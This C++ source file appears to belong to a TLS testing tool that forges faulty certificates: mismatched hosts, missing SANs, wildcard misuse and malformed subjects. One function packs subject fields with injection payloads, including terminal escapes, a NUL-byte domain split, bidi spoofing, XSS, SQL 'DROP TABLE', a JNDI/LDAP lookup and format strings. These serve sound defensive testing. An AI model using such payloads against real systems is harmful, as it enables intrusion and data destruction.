// Faults and oddities of the names in a certificate.
#include <fmt/format.h>

#include <algorithm>

#include "faults.h"
#include "tlsproof/base/text.h"

namespace tlsproof::pki {
namespace {

using Kind = AlternativeName::Kind;

std::vector<std::string_view> labels_of(std::string_view name) {
  std::vector<std::string_view> labels;
  for (size_t at = 0; at <= name.size();) {
    const size_t dot = std::min(name.find('.', at), name.size());
    labels.push_back(name.substr(at, dot - at));
    at = dot + 1;
  }
  return labels;
}

struct WildcardShape {
  size_t min_labels, max_labels;
  std::string_view needed;                                         // "a name of three labels, such as www.example.com"
  std::string (*first)(std::span<const std::string_view> labels);  // what stands in place of the labels replaced
  size_t num_replaced;
};

// Every DNS name in its wildcard form; other names stay.
Result<Identity> issue_wildcards(const ForgeContext& context, const WildcardShape& shape) {
  ForgeContext changed = context;
  changed.names.clear();
  bool any = false;
  for (const AlternativeName& name : context.names) {
    AlternativeName wild = name;
    if (name.kind == Kind::dns) {
      const std::vector<std::string_view> labels = labels_of(name.value);
      if (labels.size() < shape.min_labels || labels.size() > shape.max_labels || labels.front().size() < 2 ||
          name.value.contains('*'))
        return fail_usage(fmt::format("'{}' does not do: this fault needs {}", escape_terminal_limited(name.value, 80),
                                      shape.needed));
      wild.value = shape.first(labels);
      for (size_t i = shape.num_replaced; i < labels.size(); ++i) wild.value.append(".").append(labels[i]);
      any = true;
    }
    if (std::ranges::find(changed.names, wild) == changed.names.end()) changed.names.push_back(std::move(wild));
  }
  if (!any) return fail_usage(fmt::format("no DNS name is given: this fault needs {}", shape.needed));
  return issue(changed, good_spec(changed));
}

constexpr size_t kAnyNumber = 127;  // RFC 1035 §2.3.4 allows no more
std::string star(std::span<const std::string_view> /*labels*/) {
  return "*";
}

}  // namespace

Result<Identity> forge_wrong_host(const ForgeContext& context) {
  CertificateSpec spec = good_spec(context);
  // RFC 6761 §6.4: nothing is ever called so.
  spec.names = {{.kind = Kind::dns, .value = "wrong-host.invalid"}};
  // A common name that fits would satisfy whoever still looks there.
  std::erase_if(spec.subject, [](const NameAttribute& attribute) { return attribute.type == "CN"; });
  spec.subject.push_back({.type = "CN", .value = "wrong-host.invalid"});
  return issue(context, spec);
}

Result<Identity> forge_no_san(const ForgeContext& context) {
  CertificateSpec spec = good_spec(context);
  spec.names.clear();
  return issue(context, spec);
}

Result<Identity> forge_ip_as_dns(const ForgeContext& context) {
  ForgeContext changed = context;
  bool any = false;
  for (AlternativeName& name : changed.names) {
    if (name.kind != Kind::ip) continue;
    name.kind = Kind::dns;
    any = true;
  }
  if (!any) return fail_usage("this fault needs an IP address among the names, such as 127.0.0.1");
  return issue(changed, good_spec(changed));
}

Result<Identity> forge_wildcard(const ForgeContext& context) {
  return issue_wildcards(context, {3, kAnyNumber, "a name of three labels or more, such as www.example.com", star, 1});
}

Result<Identity> forge_wildcard_partial(const ForgeContext& context) {
  return issue_wildcards(context, {3, kAnyNumber, "a name of three labels or more, such as www.example.com",
                                   [](std::span<const std::string_view> labels) {
                                     return std::string(labels.front().substr(0, labels.front().size() / 2)) + "*";
                                   },
                                   1});
}

Result<Identity> forge_wildcard_too_deep(const ForgeContext& context) {
  return issue_wildcards(context,
                         {4, kAnyNumber, "a name of four labels or more, such as www.deep.example.com", star, 2});
}

Result<Identity> forge_wildcard_tld(const ForgeContext& context) {
  return issue_wildcards(context, {2, 2, "a name of two labels, such as example.com", star, 1});
}

Result<Identity> forge_empty_subject(const ForgeContext& context) {
  CertificateSpec spec = good_spec(context);
  spec.subject.clear();
  return issue(context, spec);
}

Result<Identity> forge_non_ascii(const ForgeContext& context) {
  CertificateSpec spec = good_spec(context);
  spec.subject = {{.type = "O", .value = "Δοκιμή Мир GmbH"}, {.type = "CN", .value = "Zoë Müller-Łukasz 客户端 🔑"}};
  return issue(context, spec);
}

Result<Identity> forge_hostile_subject(const ForgeContext& context) {
  using namespace std::string_literals;
  CertificateSpec spec = good_spec(context);
  const auto add = [&](std::string_view type, std::string value) {
    spec.subject.push_back({.type = std::string(type), .value = std::move(value), .verbatim = true});
  };
  spec.subject.clear();
  add("O", "\x1b[2J\x1b[31m\x1b]0;owned\x07 bell\b\r\n\tlines\n400 Bad Request"s);  // terminals and log files
  add("OU", "good.example.com\0.evil.example"s);                                    // C strings
  add("OU", "\u202egpj.exe\u202c \u200b\u2066 \ufeff"s);                            // marks that turn text around
  add("OU", "<script>alert(1)</script>';DROP TABLE clients;--${jndi:ldap://x}%n%s"s);
  add("OU", "CN=admin,O=Example/CN=admin+UID=0"s);  // names written into names
  add("CN", std::string(4096, 'A'));                // 64 times what X.520 allows
  return issue(context, spec);
}

}  // namespace tlsproof::pki
